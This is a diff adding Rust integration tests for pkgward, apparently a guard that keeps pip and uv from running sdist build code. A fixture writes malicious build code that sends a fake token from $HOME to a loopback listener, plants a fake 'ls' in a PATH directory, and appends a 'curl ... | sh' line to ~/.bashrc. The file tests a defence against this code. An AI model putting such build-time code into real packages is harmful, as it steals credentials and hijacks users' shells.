@@ -1,0 +1,365 @@
+//! Install-time code of the Python tools, end to end with the real pip and
+//! uv behind the pkgward shims against the loopback index: an sdist whose
+//! build (its PEP 517 backend) writes a marker, sends a fake token read from
+//! `$HOME` to a loopback listener through urllib, drops an executable into
+//! a PATH directory and appends to `~/.bashrc`. Under the default policy
+//! pip and uv get wheels only, so none of that happens — also while
+//! resolving, in dry runs and downloads, and whatever the user's flags,
+//! environment or requirement files say; wheels still install.
+
+mod support;
+
+use std::ffi::OsString;
+use std::os::unix::fs::PermissionsExt;
+use std::path::PathBuf;
+use std::process::Output;
+use std::sync::OnceLock;
+
+use support::guard::{pkgward_bin, text, to_env, Guarded};
+use support::registry::Listener;
+use support::tools::{find_in_path, real_python, EnvList};
+use support::{py_marker, shared, Sdist, Wheel};
+
+fn evil_build() -> String {
+    format!(
+        "{marker}\
+         import os, urllib.request\n\
+         _h = os.path.expanduser('~')\n\
+         _url = open(os.path.join(_h, '.exfil-url')).read().strip()\n\
+         _tok = open(os.path.join(_h, '.fake-token')).read().strip()\n\
+         try:\n    urllib.request.urlopen(_url + '/py?t=' + _tok, data=_tok.encode(), timeout=5)\n\
+         except Exception:\n    pass\n\
+         os.makedirs(os.path.join(_h, 'bin'), exist_ok=True)\n\
+         with open(os.path.join(_h, 'bin', 'ls'), 'w') as _f:\n    _f.write('#!/bin/sh\\necho pwned\\n')\n\
+         os.chmod(os.path.join(_h, 'bin', 'ls'), 0o755)\n\
+         with open(os.path.join(_h, '.bashrc'), 'a') as _f:\n    _f.write('curl ' + _url + '/rc | sh\\n')\n",
+        marker = py_marker("sdist-built"),
+    )
+}
+
+fn fixtures() {
+    static DONE: OnceLock<()> = OnceLock::new();
+    DONE.get_or_init(|| {
+        let r = shared();
+        r.publish_sdist(
+            &Sdist::new("pw-scr-sdist", "1.0.0")
+                .module("VALUE = 'built'\n")
+                .build_code(&evil_build()),
+        );
+        r.publish_wheel(&Wheel::new("pw-scr-wheel", "1.0.0").module("VALUE = 'wheel'\n"));
+    });
+}
+
+/// The real uv: on PATH, or the one the `uv` Python package ships.
+fn real_uv() -> PathBuf {
+    find_in_path("uv")
+        .or_else(|| {
+            let out = std::process::Command::new(real_python())
+                .args(["-c", "import uv; print(uv.find_uv_bin())"])
+                .output()
+                .ok()?;
+            let p = PathBuf::from(String::from_utf8(out.stdout).ok()?.trim());
+            p.is_file().then_some(p)
+        })
+        .expect("uv not found: `pip install uv` (these tests run the real uv)")
+        .canonicalize()
+        .unwrap()
+}
+
+struct T {
+    g: Guarded,
+    exfil: Listener,
+}
+
+fn setup(policy_extra: &str) -> T {
+    fixtures();
+    let policy = format!(
+        "mode = \"enforce\"\n[registries]\npypi = [\"{}\"]\n{policy_extra}",
+        shared().pypi_index_url()
+    );
+    let g = Guarded::new(&policy);
+    std::os::unix::fs::symlink(pkgward_bin(), g.shims.join("uv")).unwrap();
+    let p = g.real.join("uv");
+    std::fs::write(
+        &p,
+        format!("#!/bin/sh\nexec '{}' \"$@\"\n", real_uv().display()),
+    )
+    .unwrap();
+    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let h = &g.sb.home;
+    std::fs::write(h.join(".fake-token"), "tok-s3cret\n").unwrap();
+    std::fs::write(h.join(".bashrc"), "# rc\n").unwrap();
+    let exfil = Listener::start();
+    std::fs::write(h.join(".exfil-url"), exfil.base_url()).unwrap();
+    T { g, exfil }
+}
+
+fn uv_env(t: &T) -> EnvList {
+    let r = t.g.sb.root();
+    vec![
+        ("UV_CACHE_DIR".into(), r.join("uv-cache").into()),
+        ("UV_PYTHON".into(), real_python().into()),
+        ("UV_PYTHON_DOWNLOADS".into(), "never".into()),
+        ("UV_NO_PROGRESS".into(), "1".into()),
+        ("UV_LINK_MODE".into(), "copy".into()),
+        (
+            "UV_DEFAULT_INDEX".into(),
+            OsString::from(shared().pypi_index_url()),
+        ),
+        ("XDG_CONFIG_DIRS".into(), r.join("etc/xdg").into()),
+    ]
+}
+
+fn uv(t: &T, args: &[&str], extra: &[(&str, &str)]) -> Output {
+    t.g.sb
+        .command("uv", &[uv_env(t), t.g.pkgward_env(), to_env(extra)])
+        .args(args)
+        .output()
+        .unwrap()
+}
+
+fn pip(t: &T, args: &[&str], extra: &[(&str, &str)]) -> Output {
+    let mut e: Vec<(&str, &str)> = vec![("PIP_NO_CACHE_DIR", "1")];
+    e.extend_from_slice(extra);
+    t.g.pip(args, &e)
+}
+
+fn no_effects(t: &T, what: &str) {
+    assert_eq!(
+        t.g.sb.marker("sdist-built"),
+        None,
+        "{what}: the sdist was built"
+    );
+    assert_eq!(
+        t.exfil.connections().len(),
+        0,
+        "{what}: the listener was reached"
+    );
+    assert_eq!(
+        std::fs::read_to_string(t.g.sb.home.join(".bashrc")).unwrap(),
+        "# rc\n",
+        "{what}"
+    );
+    assert!(!t.g.sb.home.join("bin/ls").exists(), "{what}");
+}
+
+fn target(t: &T) -> String {
+    t.g.sb.root().join("site").to_string_lossy().into_owned()
+}
+
+/// (what, arguments, extra environment)
+type Case<'a> = (&'a str, Vec<&'a str>, Vec<(&'a str, &'a str)>);
+
+#[test]
+fn pip_builds_no_sdist_whatever_the_command_says() {
+    let t = setup("");
+    let site = target(&t);
+    let req =
+        t.g.sb
+            .write("req.txt", "--no-binary pw-scr-sdist\npw-scr-sdist\n");
+    let cases: Vec<Case<'_>> = vec![
+        (
+            "install",
+            vec!["install", "--target", &site, "pw-scr-sdist"],
+            vec![],
+        ),
+        (
+            "dry run",
+            vec!["install", "--dry-run", "pw-scr-sdist"],
+            vec![],
+        ),
+        (
+            "download",
+            vec!["download", "-d", &site, "pw-scr-sdist"],
+            vec![],
+        ),
+        ("wheel", vec!["wheel", "-w", &site, "pw-scr-sdist"], vec![]),
+        (
+            "--no-binary flag",
+            vec![
+                "install",
+                "--target",
+                &site,
+                "--no-binary",
+                "pw-scr-sdist",
+                "pw-scr-sdist",
+            ],
+            vec![],
+        ),
+        (
+            "--only-binary=:none:",
+            vec![
+                "install",
+                "--target",
+                &site,
+                "--only-binary=:none:",
+                "pw-scr-sdist",
+            ],
+            vec![],
+        ),
+        (
+            "PIP_NO_BINARY",
+            vec!["install", "--target", &site, "pw-scr-sdist"],
+            vec![("PIP_NO_BINARY", ":all:")],
+        ),
+        (
+            "requirements file --no-binary",
+            vec!["install", "--target", &site, "-r", req.to_str().unwrap()],
+            vec![],
+        ),
+    ];
+    for (what, args, env) in cases {
+        let o = pip(&t, &args, &env);
+        assert!(
+            !o.status.success(),
+            "{what}: pip succeeded: {}",
+            text(&o.stderr)
+        );
+        no_effects(&t, what);
+    }
+    // Recorded: builds were switched off for these invocations.
+    let recs: Vec<serde_json::Value> =
+        t.g.audit()
+            .into_iter()
+            .filter(|r| r["kind"] == "script")
+            .collect();
+    assert!(!recs.is_empty());
+    let inv = t.g.last_invocation();
+    let last = recs.last().unwrap();
+    assert_eq!(last["invocation_id"], inv["invocation_id"]);
+    assert_eq!(last["ecosystem"], "pypi");
+    assert_eq!(last["decision"], "deny");
+    assert_eq!(last["ran"], false);
+    assert!(last["runner"].to_string().contains("--only-binary=:all:"));
+    // Wheels still install.
+    let o = pip(&t, &["install", "--target", &site, "pw-scr-wheel"], &[]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert!(t.g.sb.root().join("site/pw_scr_wheel").exists());
+}
+
+#[test]
+fn uv_builds_no_sdist() {
+    let t = setup("");
+    let site = target(&t);
+    let req =
+        t.g.sb
+            .write("req.txt", "--no-binary pw-scr-sdist\npw-scr-sdist\n")
+            .to_string_lossy()
+            .into_owned();
+    for (what, args) in [
+        (
+            "uv pip install",
+            vec!["pip", "install", "--target", &site, "pw-scr-sdist"],
+        ),
+        ("uv pip compile", vec!["pip", "compile", "-"]),
+        (
+            "uv pip install --no-binary",
+            vec![
+                "pip",
+                "install",
+                "--target",
+                &site,
+                "--no-binary",
+                "pw-scr-sdist",
+                "pw-scr-sdist",
+            ],
+        ),
+        (
+            "uv pip install -r with --no-binary",
+            vec!["pip", "install", "--target", &site, "-r", &req],
+        ),
+    ] {
+        let o = if what == "uv pip compile" {
+            let mut c = t.g.sb.command("uv", &[uv_env(&t), t.g.pkgward_env()]);
+            c.args(&args).stdin(std::process::Stdio::piped());
+            let mut child = c
+                .stdout(std::process::Stdio::piped())
+                .stderr(std::process::Stdio::piped())
+                .spawn()
+                .unwrap();
+            use std::io::Write;
+            child
+                .stdin
+                .take()
+                .unwrap()
+                .write_all(b"pw-scr-sdist\n")
+                .unwrap();
+            child.wait_with_output().unwrap()
+        } else {
+            uv(&t, &args, &[])
+        };
+        assert!(
+            !o.status.success(),
+            "{what}: uv succeeded: {}",
+            text(&o.stderr)
+        );
+        no_effects(&t, what);
+    }
+    let o = uv(
+        &t,
+        &["pip", "install", "--target", &site, "pw-scr-wheel"],
+        &[],
+    );
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    // Marking the package no-binary anywhere uv reads it is refused before uv runs.
+    std::fs::write(
+        t.g.sb.work.join("uv.toml"),
+        "no-binary-package = [\"pw-scr-sdist\"]\n",
+    )
+    .unwrap();
+    let o = uv(
+        &t,
+        &["pip", "install", "--target", &site, "pw-scr-sdist"],
+        &[],
+    );
+    assert_eq!(o.status.code(), Some(77), "{}", text(&o.stderr));
+    no_effects(&t, "uv.toml no-binary-package");
+    std::fs::remove_file(t.g.sb.work.join("uv.toml")).unwrap();
+    let o = uv(
+        &t,
+        &["pip", "install", "--target", &site, "pw-scr-sdist"],
+        &[("UV_NO_BINARY_PACKAGE", "pw-scr-sdist")],
+    );
+    assert_eq!(o.status.code(), Some(77), "{}", text(&o.stderr));
+    let inv = t.g.last_invocation();
+    assert_eq!(inv["decision"]["reasons"][0]["code"], "build-not-approved");
+    assert!(
+        text(&o.stderr).contains("would run install-time code the policy does not approve"),
+        "{}",
+        text(&o.stderr)
+    );
+    no_effects(&t, "UV_NO_BINARY_PACKAGE");
+}
+
+/// The control: with `scripts.default = "allow"` the same install builds
+/// the sdist (and its code does all it does), so the tests above prove
+/// pkgward stopped it.
+#[test]
+fn control_builds_run_when_the_policy_allows_them() {
+    let t = setup("[scripts]\ndefault = \"allow\"\n");
+    let site = target(&t);
+    let o = pip(&t, &["install", "--target", &site, "pw-scr-sdist"], &[]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(t.g.sb.marker("sdist-built").as_deref(), Some("ran\n"));
+    assert!(!t.exfil.connections().is_empty());
+}
+
+/// A PyPI approval does not make pip or uv build the package: neither can
+/// say "wheels only, except that this package may also build" (only "this
+/// package from source", which would break it where only a wheel exists),
+/// so builds stay off until pkgward builds approved sdists itself.
+#[test]
+fn an_approval_does_not_lift_wheels_only_yet() {
+    let t = setup("[scripts]\nallow = [\"pypi:pw-scr-sdist\"]\n");
+    let site = target(&t);
+    let o = pip(&t, &["install", "--target", &site, "pw-scr-sdist"], &[]);
+    assert!(!o.status.success());
+    no_effects(&t, "approved pip");
+    let o = uv(
+        &t,
+        &["pip", "install", "--target", &site, "pw-scr-sdist"],
+        &[],
+    );
+    assert!(!o.status.success());
+    no_effects(&t, "approved uv");
+}
